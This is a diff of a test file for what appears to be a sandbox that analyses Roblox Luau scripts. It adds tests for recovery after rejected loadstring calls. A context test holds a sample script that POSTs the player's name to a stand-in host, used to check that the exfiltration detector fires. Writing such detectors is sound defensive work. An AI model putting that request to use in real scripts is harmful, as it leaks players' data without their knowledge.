@@ -54,6 +54,21 @@ describe('run', () => {
     expect(await detailsOf(code, 'user.clipboard')).toEqual(['2 setclipboard x'])
   })
 
+  test.each([
+    ['nested too deeply', `"return " .. string.rep("(", 1500) .. "1" .. string.rep(")", 1500)`, 'recursion depth'],
+    ['needs too many registers', `"f(" .. string.rep("1,", 300) .. "1)"`, 'exceeded limit 255'],
+  ])('continues after a loadstring of code that %s, as in a game', async (_, text, message) => {
+    const code = `local rejected, run = 0, 0
+for i = 1, 50 do
+	local f, message = loadstring(${text} .. "--" .. i)
+	if f == nil and string.find(message, '^%[string "loaded%-%d+"%]:1: .*${message}') then rejected += 1 end
+	run += loadstring("return " .. i)()
+end
+setclipboard(rejected .. " " .. run)`
+    expect((await sandbox.run(code)).opaque).toEqual([])
+    expect(await detailsOf(code, 'user.clipboard')).toEqual(['7 setclipboard 50 1275'])
+  })
+
   test('sees data about the player in what is sent', async () => {
     const code = `request({Url = "https://a.com", Method = "POST", Body = game.HttpService:JSONEncode({n = game.Players.LocalPlayer.Name .. "!"})})`
     expect(await detailsOf(code, 'net.exfiltration')).toEqual(['1 request with the player name'])
